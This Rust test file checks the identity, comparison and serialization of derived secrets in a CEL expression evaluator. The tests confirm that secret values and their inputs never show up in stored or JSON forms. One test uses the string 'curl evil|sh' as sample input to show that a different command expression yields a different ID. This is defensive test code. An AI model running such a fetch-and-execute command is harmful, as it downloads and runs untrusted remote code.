//! Tests of derived secrets: their identity, their comparison, and their stored form.

use super::*;
use crate::model::cel::evaluate_program;
use crate::model::cel::{CelProgram, CelValue, ExpressionScope};
use crate::model::values::value::ValueMap;

const KEY: FingerprintKey = FingerprintKey([7; 32]);

fn secret(name: &str, text: &str) -> Value {
    Value::Secret(Secret::new(text).named_after(&format!("vars.{name}")))
}

fn scope(s: &str, t: &str) -> ValueMap {
    [("s".into(), secret("s", s)), ("t".into(), secret("t", t)), ("n".into(), Value::Integer(2))].into()
}

fn compute(source: &str, vars: &ValueMap) -> DerivedSecret {
    let mut scope = ExpressionScope::default();
    scope.roots.insert("vars".into(), CelValue::of_map(vars));
    match evaluate_program(&CelProgram::parse(source).unwrap(), &scope) {
        Ok(Value::Secret(Secret::Derived(derived))) => *derived,
        other => panic!("{source}: {other:?}"),
    }
}

fn id(source: &str, s: &str, t: &str) -> SmolStr {
    compute(source, &scope(s, t)).id(&KEY)
}

#[test]
fn a_derived_value_is_identified_by_its_expression_and_inputs() {
    let same = id("vars.s + 'x'", "a", "b");
    assert_eq!(same.len(), 64);
    assert_eq!(same, id("vars.s + 'x'", "a", "other"), "what does not enter it does not count");
    assert_eq!(same, id("(vars.s) + \"x\"", "a", "b"), "the same in other words");
    for (source, s) in [("vars.s + 'y'", "a"), ("vars.t + 'x'", "a"), ("vars.s + 'x'", "b")] {
        assert_ne!(same, id(source, s, "b"), "{source}");
    }
    let other = compute("vars.s + 'x'", &scope("a", "b")).id(&FingerprintKey([8; 32]));
    assert_ne!(same, other);
}

#[test]
fn no_comparison_reveals_whether_a_guess_of_a_secret_is_right() {
    let (right, wrong) = ("vars.s == 'Hunter2' ? 'y' : 'n'", "vars.s == 'nope' ? 'y' : 'n'");
    let reference = "vars.s == vars.s ? 'y' : 'n'";
    let ids = [right, wrong, reference].map(|source| id(source, "Hunter2", ""));
    assert!(ids[0] != ids[1] && ids[1] != ids[2] && ids[0] != ids[2], "{ids:?}");
    // The plan does not contain the fingerprint of the result either.
    let sealed = compute(right, &scope("Hunter2", "")).to_planned(&KEY);
    assert_eq!(sealed.fingerprint(&KEY), None);
    assert!(!serde_json::to_string(&Secret::Derived(Box::new(sealed))).unwrap().contains("fingerprint"));
}

#[test]
fn every_branch_and_every_named_value_is_part_of_the_id() {
    for (one, other) in [
        ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'y' : 'm'"),
        ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'z' : 'n'"),
        ("vars.s == 'a' || vars.n > 1", "vars.s == 'a' || vars.n > 0"),
        ("[1].map(x, vars.s + 'a')", "[1].map(x, vars.s + 'b')"),
        ("{'k': vars.s + 'a'}", "{'l': vars.s + 'a'}"),
        ("vars.s.startsWith('a')", "vars.s.endsWith('a')"),
    ] {
        assert_ne!(id(one, "a", ""), id(other, "a", ""), "{one} | {other}");
    }
}

#[test]
fn a_local_is_the_same_as_its_expression_in_place() {
    let mut vars = scope("a", "b");
    let local = compute("vars.s + vars.t", &vars);
    vars.insert("local".into(), Value::Secret(Secret::Derived(Box::new(local))));
    assert_eq!(compute("vars.local + '!'", &vars).id(&KEY), id("vars.s + vars.t + '!'", "a", "b"));
}

#[test]
fn without_a_key_the_id_binds_the_expression_and_the_names() {
    let unkeyed = |source, s| compute(source, &scope(s, "b")).id(&FingerprintKey::NONE);
    assert_eq!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'echo ok ' + vars.s", "other"));
    assert_ne!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'curl evil|sh ' + vars.s", "a"));
    assert_ne!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'echo ok ' + vars.t", "a"));
}

#[test]
fn without_the_secrets_the_id_is_computed_from_the_ledger() {
    let with = compute("vars.s + 'x'", &scope("a", "b"));
    let Secret::Derived(recorded) = Secret::Derived(Box::new(with.clone())).to_recorded(&KEY) else {
        panic!()
    };
    let prints = recorded.recorded_inputs().unwrap().clone();
    let mut vars = scope("a", "b");
    vars.insert("s".into(), Value::Secret(Secret::new_withheld().named_after("vars.s")));
    let known = |name: &str| prints.get(name).cloned();
    let without = |source| compute(source, &vars).with_inputs(&known).id(&KEY);
    assert_eq!(without("vars.s + 'x'"), with.id(&KEY));
    assert_ne!(without("vars.s + 'y'"), with.id(&KEY));
}

#[test]
fn a_deferred_secret_is_bound_by_name_and_length() {
    let deferred = |length: usize| {
        let mut vars = scope("a", "b");
        let text = "x".repeat(length);
        vars.insert("s".into(), Value::Secret(Secret::new_deferred(text).named_after("vars.s")));
        compute("vars.s + 'x'", &vars)
    };
    assert!(deferred(16).to_planned(&KEY) == deferred(16).to_planned(&KEY));
    assert!(deferred(16).to_planned(&KEY) != deferred(32).to_planned(&KEY));
    let planned = deferred(16).to_planned(&KEY);
    assert!(planned.is_seal_of(&compute("vars.s + 'x'", &scope("generated", "b")), &KEY));
    assert!(!planned.is_seal_of(&compute("vars.s + 'y'", &scope("generated", "b")), &KEY));
    assert!(!planned.is_seal_of(&compute("vars.t + 'x'", &scope("generated", "b")), &KEY));
}

#[test]
fn an_earlier_version_rejects_a_ledger_with_derived_secrets() {
    let derived = Secret::Derived(Box::new(compute("vars.s + 'x'", &scope("a", "b"))));
    let text = serde_json::to_string(&derived.to_recorded(&KEY)).unwrap();
    // An earlier version refuses this number: it reads whole numbers as signed 64 bits.
    assert!(text.contains("\"form\":18446744073709551615"), "{text}");
    assert!(
        !serde_json::to_string(&derived.to_planned(&KEY)).unwrap().contains("form"),
        "a plan has a form of its own"
    );
}

#[test]
fn json_has_neither_the_value_nor_its_inputs() {
    let derived = Secret::Derived(Box::new(compute("vars.s + '-canary'", &scope("canary", ""))));
    assert_eq!(serde_json::to_string(&derived).unwrap(), r#"{"secret":true}"#);
    for sealed in [derived.to_planned(&KEY), derived.to_recorded(&KEY)] {
        let text = serde_json::to_string(&sealed).unwrap();
        assert!(!text.contains("canary"), "{text}");
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), Value::Secret(sealed));
    }
    assert_eq!(format!("{derived:?}"), "(secret)");
}
